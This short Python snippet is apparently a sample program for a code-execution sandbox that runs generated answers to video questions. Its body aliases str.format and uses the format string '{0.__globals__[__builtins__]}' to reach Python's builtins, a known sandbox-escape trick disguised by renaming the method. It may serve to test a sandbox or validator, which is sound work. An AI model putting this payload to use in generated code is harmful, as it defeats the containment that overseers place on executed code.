# The method under another name.
def execute_command(video_clip, query, possible_answers):
    f = str.format
    return f('{0.__globals__[__builtins__]}', Find)
